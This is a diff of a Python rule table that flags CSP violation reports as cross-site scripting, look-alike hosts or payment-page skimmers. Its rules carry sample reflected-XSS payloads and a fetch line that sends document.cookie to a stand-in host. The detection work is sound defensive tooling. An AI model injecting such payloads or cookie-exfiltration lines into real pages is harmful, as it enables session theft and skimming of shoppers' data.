@@ -6,7 +6,7 @@ import re
 from collections.abc import Iterator
 from functools import lru_cache
 
-from issues.verdicts.evidence import Evidence, policy_domains
+from issues.verdicts.evidence import Evidence
 from issues.verdicts.injected import host_of_list
 from issues.verdicts.lists.services import KNOWN
 from issues.verdicts.lookalike import borrows, imitates, typo_of
@@ -19,37 +19,106 @@ _HOME = {"document-uri": "https://brackenshop.example/"}
 _SENT = {"effective-directive": "connect-src"}
 
 RULES: tuple[Rule, ...] = (
-    Rule("xss-echo", "S11", "attack", "likely", "Code from the page's own address",
-         "The blocked code stands in the address of the page as well: somebody tried a link that injects code, and the page echoed it.",
-         "OWASP, reflected cross-site scripting",
-         {**_INLINE, "document-uri": "https://shop.example/s?q=%3Cscript%3Ealert(document.domain)%3C/script%3E", "script-sample": "alert(document.domain)"},
-         {**_INLINE, "document-uri": "https://shop.example/s?q=shoes", "script-sample": "var query = \"shoes\"; search(query)"}),
-    Rule("xss-payload", "S11", "attack", "likely", "Markup in the page's address",
-         "The page's address holds script or markup, and inline code was blocked there.", "OWASP, reflected cross-site scripting",
-         {**_INLINE, "document-uri": "https://shop.example/s?q=%3Cimg+src=x+onerror=alert(1)%3E"},
-         {**_INLINE, "document-uri": "https://shop.example/s?q=red+shoes"}),
-    Rule("xss-probe", "S11", "attack", "likely", "Code that probes for holes",
-         "The blocked code is what people inject to test or abuse a hole.", "OWASP, XSS filter evasion",
-         {**_INLINE, "script-sample": "fetch('//x.example/'+document.cookie)"}, {**_INLINE, "script-sample": "alertBox.show('Welcome')"}),
-    Rule("xss-address", "S11", "attack", "likely", "A script named in the page's address",
-         "The page's address names {}, and the page then asked for it.", "OWASP, reflected cross-site scripting",
-         {"effective-directive": "script-src-elem", "blocked-uri": "https://evil.example/x.js",
-          "document-uri": "https://shop.example/s?q=%3Cscript%20src=//evil.example/x.js%3E"},
-         {"effective-directive": "frame-src", "blocked-uri": "https://video.example/", "document-uri": "https://shop.example/s?v=https://video.example/"}),
-    Rule("xss-base", "S11", "attack", "likely", "A <base> that points elsewhere",
-         "Something on the page tried to make {} the base of all its addresses: injected markup does that.", "CSP3, base-uri",
-         {"effective-directive": "base-uri", "blocked-uri": "https://evil-base.example/"}, {"effective-directive": "base-uri", "blocked-uri": "https://shop.example/a/"}),
-    Rule("lookalike", "S12", "attack", "likely", "A host that imitates a known one",
-         "The host imitates “{}” letter by letter.", "Magecart reports: look-alike hosts",
-         {**_SENT, "blocked-uri": "https://googie-anaiytics.example.com/g"}, {**_SENT, "blocked-uri": "https://www.google-analytics.com/g"}),
-    Rule("skimmer-name", "S12", "attack", "likely", "A host close to your own on a payment page",
-         "On a payment page, data or code went to a host that carries or misspells “{}” and is not yours.", "Magecart reports: look-alike hosts",
-         {**_PAY, "effective-directive": "form-action", "blocked-uri": "https://secure-pay-brackenshop.example.net/post.php"},
-         {**_HOME, "effective-directive": "img-src", "blocked-uri": "https://secure-pay-brackenshop.example.net/a.png"}),
-    Rule("skimmer-host", "S12", "attack", "hint", "An unknown host on a payment page",
-         "On a payment page, code or data went to {}, which neither your policy nor our list of services knows. Look before you allow it.",
-         "PCI DSS 4.0, 6.4.3 and 11.6.1",
-         {**_PAY, **_SENT, "blocked-uri": "https://metrics-collect.example.org/v1"}, {**_PAY, **_SENT, "blocked-uri": "https://api.stripe.com/v1"}),
+    Rule(
+        "xss-echo",
+        "S11",
+        "attack",
+        "likely",
+        "Code from the page's own address",
+        "The blocked code stands in the address of the page as well: somebody tried a link that injects code, and the page echoed it.",
+        "OWASP, reflected cross-site scripting",
+        {
+            **_INLINE,
+            "document-uri": "https://shop.example/s?q=%3Cscript%3Ealert(document.domain)%3C/script%3E",
+            "script-sample": "alert(document.domain)",
+        },
+        {**_INLINE, "document-uri": "https://shop.example/s?q=shoes", "script-sample": 'var query = "shoes"; search(query)'},
+    ),
+    Rule(
+        "xss-payload",
+        "S11",
+        "attack",
+        "likely",
+        "Markup in the page's address",
+        "The page's address holds script or markup, and inline code was blocked there.",
+        "OWASP, reflected cross-site scripting",
+        {**_INLINE, "document-uri": "https://shop.example/s?q=%3Cimg+src=x+onerror=alert(1)%3E"},
+        {**_INLINE, "document-uri": "https://shop.example/s?q=red+shoes"},
+    ),
+    Rule(
+        "xss-probe",
+        "S11",
+        "attack",
+        "likely",
+        "Code that probes for holes",
+        "The blocked code is what people inject to test or abuse a hole.",
+        "OWASP, XSS filter evasion",
+        {**_INLINE, "script-sample": "fetch('//x.example/'+document.cookie)"},
+        {**_INLINE, "script-sample": "alertBox.show('Welcome')"},
+    ),
+    Rule(
+        "xss-address",
+        "S11",
+        "attack",
+        "likely",
+        "A script named in the page's address",
+        "The page's address names {}, and the page then asked for it.",
+        "OWASP, reflected cross-site scripting",
+        {
+            "effective-directive": "script-src-elem",
+            "blocked-uri": "https://evil.example/x.js",
+            "document-uri": "https://shop.example/s?q=%3Cscript%20src=//evil.example/x.js%3E",
+        },
+        {
+            "effective-directive": "frame-src",
+            "blocked-uri": "https://video.example/",
+            "document-uri": "https://shop.example/s?v=https://video.example/",
+        },
+    ),
+    Rule(
+        "xss-base",
+        "S11",
+        "attack",
+        "likely",
+        "A <base> that points elsewhere",
+        "Something on the page tried to make {} the base of all its addresses: injected markup does that.",
+        "CSP3, base-uri",
+        {"effective-directive": "base-uri", "blocked-uri": "https://evil-base.example/"},
+        {"effective-directive": "base-uri", "blocked-uri": "https://shop.example/a/"},
+    ),
+    Rule(
+        "lookalike",
+        "S12",
+        "attack",
+        "likely",
+        "A host that imitates a known one",
+        "The host imitates “{}” letter by letter.",
+        "Magecart reports: look-alike hosts",
+        {**_SENT, "blocked-uri": "https://googie-anaiytics.example.com/g"},
+        {**_SENT, "blocked-uri": "https://www.google-analytics.com/g"},
+    ),
+    Rule(
+        "skimmer-name",
+        "S12",
+        "attack",
+        "likely",
+        "A host close to your own on a payment page",
+        "On a payment page, data or code went to a host that carries or misspells “{}” and is not yours.",
+        "Magecart reports: look-alike hosts",
+        {**_PAY, "effective-directive": "form-action", "blocked-uri": "https://secure-pay-brackenshop.example.net/post.php"},
+        {**_HOME, "effective-directive": "img-src", "blocked-uri": "https://secure-pay-brackenshop.example.net/a.png"},
+    ),
+    Rule(
+        "skimmer-host",
+        "S12",
+        "attack",
+        "hint",
+        "An unknown host on a payment page",
+        "On a payment page, code or data went to {}, which neither your policy nor our list of services knows. Look before you allow it.",
+        "PCI DSS 4.0, 6.4.3 and 11.6.1",
+        {**_PAY, **_SENT, "blocked-uri": "https://metrics-collect.example.org/v1"},
+        {**_PAY, **_SENT, "blocked-uri": "https://api.stripe.com/v1"},
+    ),
 )
 _BY_ID = {rule.id: rule for rule in RULES}
 
@@ -105,7 +174,12 @@ def _host_marks(evidence: Evidence) -> Iterator[Mark]:
     if evidence.violation.directive == "base-uri" and not evidence.blocked_is_own:
         yield _BY_ID["xss-base"].mark(host)
         return
-    if evidence.family in ("script", "object") and not evidence.blocked_is_own and host in evidence.query and _MARKUP.search(evidence.query):
+    if (
+        evidence.family in ("script", "object")
+        and not evidence.blocked_is_own
+        and host in evidence.query
+        and _MARKUP.search(evidence.query)
+    ):
         yield _BY_ID["xss-address"].mark(host)
     if evidence.family in _SENDING:
         imitated = imitates(host, evidence.own_domains)
@@ -143,8 +217,3 @@ def page_pattern(pattern: str) -> re.Pattern[str]:
     """`/checkout*`: `*` stands for anything; without a `*` the page and all below it."""
     words = [re.escape(part) for part in pattern.strip().split("*")]
     return re.compile(".*".join(words) if len(words) > 1 else f"{words[0].rstrip('/')}(?:/.*)?")
-
-
-def near_names(evidence: Evidence) -> frozenset[str]:
-    """Registrable domains that a mistyped host may have meant: the site's own and those the policy names."""
-    return evidence.own_domains | policy_domains(evidence.policy)
